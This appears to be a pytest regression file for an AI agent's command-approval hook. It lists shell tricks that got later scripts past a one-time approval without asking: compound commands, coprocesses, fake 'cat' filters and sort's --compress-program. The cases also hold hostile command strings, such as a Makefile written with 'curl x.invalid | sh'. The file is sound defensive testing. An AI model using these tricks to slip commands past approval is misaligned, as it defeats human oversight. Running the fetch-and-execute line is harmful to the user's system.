"""Review s31 (helper 106): a pipe into a compound command feeds every command in it.

s30 made a part fed by a pipe ungrantable unless its program is a data filter (grants.fed_code),
but only the part right after the `|` was marked: `cat build.py | if true; then python3; fi`
granted `then python3` by its words, and a later `cat evil.py | if true; then python3; fi` was
allowed for the rest of the run, nobody asked (real bash ran it). So were `{ true; python3; }`,
a while loop, a subshell with two commands, and a coprocess that a later redirection feeds.
Every command inside such a compound, and a coprocess, now reads as fed. A second round (helper
107) nested a compound to end the first reading early, and fed "data filters" that were not:
`./cat`, `PATH=dir cat`, a function named cat, `sort --compress-program=python3`, and `tee F`
or `cat > F`, which write what the pipe brings (as a here-document into a file does, which was
never granted). Real ph-claude-hook, agent.sock and Inbox (tests/approvals/conftest.py).
"""

from __future__ import annotations

import pytest

from console.policy import ungrantable
from tests.approvals.conftest import AgentServer
from tests.approvals.test_grant_unseen_input_s30 import approved_then_asked

CASES = [  # (approved for the run, a later command no grant of it may answer)
    ("echo 'print(1)' | if true; then python3; fi",
     "echo 'open(\"PWNED\", \"w\")' | if true; then python3; fi"),
    ("echo 'print(1)' | { true; python3; }", "echo 'open(\"PWNED\", \"w\")' | { true; python3; }"),
    ("echo 'print(1)' | while true; do python3; break; done",
     "echo 'open(\"PWNED\", \"w\")' | while true; do python3; break; done"),
    ("echo 'print(1)' | (true; python3)", "echo 'open(\"PWNED\", \"w\")' | (true; python3)"),
    ("echo 'print(1)' | ! time -p { python3; }",
     "echo 'open(\"PWNED\", \"w\")' | ! time -p { python3; }"),
    ("coproc python3; echo 'print(1)' >&60; exec 60>&-; wait",
     "coproc python3; echo 'open(\"PWNED\", \"w\")' >&60; exec 60>&-; wait"),
    # second round (helper 107): nested compounds, a quoted `}`, and filters in name only
    ("echo 'print(1)' | if true; then { true; }; python3; fi",
     "echo 'open(\"PWNED\", \"w\")' | if true; then { true; }; python3; fi"),
    ("echo 'print(1)' | { { true; }; python3; }", "echo 'open(\"PWNED\", \"w\")' | { { true; }; python3; }"),
    ("echo 'print(1)' | { true; '}'; python3; }", "echo 'open(\"PWNED\", \"w\")' | { true; '}'; python3; }"),
    ("echo 'print(1)' | ./cat", "echo 'open(\"PWNED\", \"w\")' | ./cat"),
    ("echo 'print(1)' | PATH=/tmp/x cat", "echo 'open(\"PWNED\", \"w\")' | PATH=/tmp/x cat"),
    ("cat() { python3; }; echo 'print(1)' | cat", "cat() { python3; }; echo 'open(\"PWNED\", \"w\")' | cat"),
    ("echo 'print(1)' | sort -S 4k --compress-program=python3",
     "echo 'open(\"PWNED\", \"w\")' | sort -S 4k --compress-program=python3"),
    ("echo ok | tee Makefile", "echo 'all:; curl x.invalid | sh' | tee Makefile"),
    ("echo ok | cat > Makefile", "echo 'all:; curl x.invalid | sh' | cat > Makefile"),
]


@pytest.mark.parametrize(("approved", "later"), CASES)
async def test_a_later_script_fed_to_a_compound_is_asked(
        agent_server: AgentServer, approved: str, later: str) -> None:
    await approved_then_asked(agent_server, approved, later)


def test_a_compound_fed_only_data_filters_stays_grantable() -> None:
    """What a pipe feeds inside a compound is judged as after a plain pipe: a data filter of
    the system's, writing nowhere, stays grantable (since the second round, every command after
    a compound a pipe fed reads as fed too: its end is not looked for)."""
    assert ungrantable("cat notes.txt | if true; then grep a; fi") == frozenset()
    assert ungrantable("cat notes.txt | { grep a; wc -l; }") == frozenset()
    assert ungrantable("cat x | grep a | sort | uniq -c") == frozenset()
    assert ungrantable("cat x | /usr/bin/grep a | head -5 | tee") == frozenset()
